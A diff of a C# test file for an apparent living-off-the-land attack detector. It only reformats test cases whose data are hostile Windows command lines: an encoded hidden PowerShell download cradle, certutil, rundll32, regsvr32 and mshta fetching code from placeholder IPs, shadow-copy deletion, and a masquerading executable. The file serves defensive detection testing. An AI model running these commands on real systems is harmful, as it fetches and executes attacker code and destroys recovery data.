@@ -4,7 +4,10 @@ using Changeling.TestSupport;
 
 namespace Changeling.Training.Tests;
 
-/// <summary>Well-known attacks: the shipped model classifies each as malicious, and the first reason that it gives is the one that an analyst would give.</summary>
+/// <summary>
+/// Well-known attacks: the shipped model classifies each as malicious, and the first reason that it gives is the one that an analyst would
+/// give.
+/// </summary>
 public class AnalystReasonTests
 {
     private static readonly MlModel Model = new(ModelPackage.ReadFile(RepositoryRoot.Combine("models", "lotl.zip")));
@@ -16,12 +19,19 @@ public class AnalystReasonTests
     private const string PowerShell = System32 + @"WindowsPowerShell\v1.0\powershell.exe";
 
     [Theory]
-    [InlineData(Winword, PowerShell, "powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMQA5ADIALgAwAC4AMgAuADEALwBhACcAKQA=", "hidden, encoded or in-memory PowerShell")]
-    [InlineData(Cmd, System32 + "certutil.exe", @"certutil -urlcache -split -f http://203.0.113.27/r.txt C:\Users\Public\r.txt", "downloads code from the network")]
-    [InlineData(Cmd, System32 + "rundll32.exe", @"rundll32.exe javascript:""\..\mshtml,RunHTMLApplication "";document.write();GetObject(""script:http://203.0.113.9/x"")", "script run through a trusted program")]
-    [InlineData(Cmd, System32 + "regsvr32.exe", "regsvr32 /s /n /u /i:http://203.0.113.9/file.sct scrobj.dll", "script run through a trusted program")]
+    [InlineData(Winword, PowerShell,
+        "powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMQA5ADIALgAwAC4AMgAuADEALwBhACcAKQA=",
+        "hidden, encoded or in-memory PowerShell")]
+    [InlineData(Cmd, System32 + "certutil.exe", @"certutil -urlcache -split -f http://203.0.113.27/r.txt C:\Users\Public\r.txt",
+        "downloads code from the network")]
+    [InlineData(Cmd, System32 + "rundll32.exe",
+        @"rundll32.exe javascript:""\..\mshtml,RunHTMLApplication "";document.write();GetObject(""script:http://203.0.113.9/x"")",
+        "script run through a trusted program")]
+    [InlineData(Cmd, System32 + "regsvr32.exe", "regsvr32 /s /n /u /i:http://203.0.113.9/file.sct scrobj.dll",
+        "script run through a trusted program")]
     [InlineData(Explorer, System32 + "mshta.exe", "mshta http://203.0.113.9/update.hta", "downloads code from the network")]
-    [InlineData(Cmd, System32 + @"wbem\WMIC.exe", @"wmic process call create ""cmd /c C:\Users\Public\run.bat""", "command run on another machine")]
+    [InlineData(Cmd, System32 + @"wbem\WMIC.exe", @"wmic process call create ""cmd /c C:\Users\Public\run.bat""",
+        "command run on another machine")]
     [InlineData(PowerShell, Cmd, @"""C:\Windows\system32\cmd.exe"" /c vssadmin delete shadows /all /quiet", "backups or recovery disabled")]
     [InlineData(Explorer, @"C:\Users\mara.lind\AppData\Roaming\svch0st.exe", @"""C:\Users\mara.lind\AppData\Roaming\svch0st.exe""", "name that looks like a system program's")]
     [InlineData(@"C:\Users\mara.lind\Downloads\invoice.exe", Cmd, "cmd /c whoami /all", "discovery of the domain")]
